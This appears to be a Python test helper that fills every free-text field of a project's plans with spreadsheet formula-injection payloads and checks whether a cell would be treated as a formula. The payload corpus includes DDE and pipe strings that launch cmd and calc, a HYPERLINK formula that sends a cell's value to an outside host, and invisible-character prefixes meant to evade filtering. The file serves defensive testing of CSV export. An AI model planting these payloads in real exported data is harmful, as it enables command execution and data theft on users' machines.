"""Plans whose every free text is something a spreadsheet might run, and a judge of what is alive that knows nothing of how
it is kept from it."""

import re
import unicodedata
from dataclasses import fields, is_dataclass, replace
from functools import cache
from itertools import count

from tests.builders import a_full_plan
from tests.plans import KEPT
from tracker.domain.plan import Plan, PlanHead, PlanWords
from tracker.domain.words import Bilingual

COMMANDS = ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|'/C calc'!A0", "|cmd", "=HYPERLINK(\"https://example.org/?\"&A1,\"open\")",
            "=WEBSERVICE(\"https://example.org\")", "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "-2+3+cmd|' /C calc'!A0", "@\"x\"",
            "\uff1d1+1", "\uff0b1", "\uff0d1+1", "\uff20SUM(A1)", "\uff5ccmd", "=\"a\"\"b\"", "=A1\nB1", "=1;2,3")
BEFORE = ("", " ", "\t", "\r", "\n", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u200e", "\u2060", "\u00ad", "\u3164", "'", "''", "' ", "\"")
CORPUS = tuple(dict.fromkeys(before + command for command in COMMANDS for before in BEFORE))
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def is_alive(cell: str) -> bool:
    """Whether any spreadsheet might take the cell for a formula: what cannot be seen at its beginning does not count."""
    seen = cell.lstrip("\u3164\u115f\u1160\uffa0")
    while seen and unicodedata.category(seen[0])[0] in "ZC":
        seen = seen[1:].lstrip("\u3164\u115f\u1160\uffa0")
    return bool(seen) and unicodedata.normalize("NFKC", seen[0]) in ("=", "+", "-", "@", "|") and not NUMBER.fullmatch(cell)


@cache
def poisoned(start: int) -> Plan:
    """One of everything, its texts taken from the corpus in turn from `start`."""
    turn = count(start)
    said = lambda: CORPUS[next(turn) % len(CORPUS)]  # noqa: E731
    return _poisoned(a_full_plan(), said)


def _poisoned(value, said):
    if isinstance(value, Bilingual):
        return Bilingual(said(), said())
    if isinstance(value, tuple):
        return tuple(_poisoned(item, said) for item in value)
    if not is_dataclass(value) or isinstance(value, PlanWords):
        return value
    free = {f.name: getattr(value, f.name) for f in fields(value) if f.name not in KEPT or isinstance(getattr(value, f.name), tuple | Bilingual)}
    changed = {name: said() if isinstance(held, str) and type(held) is str and not _typed(value, name) else _poisoned(held, said)
               for name, held in free.items() if not (isinstance(held, tuple) and held and not is_dataclass(held[0]))}
    return replace(value, **changed)


def _typed(owner, name: str) -> bool:
    """Texts that are codes, days or addresses although their type does not say so."""
    return name in ("published", "source", "dataset", "about", "release", "media_type", "currency", "time_zone") or isinstance(owner, PlanHead) and name == "licence_code"
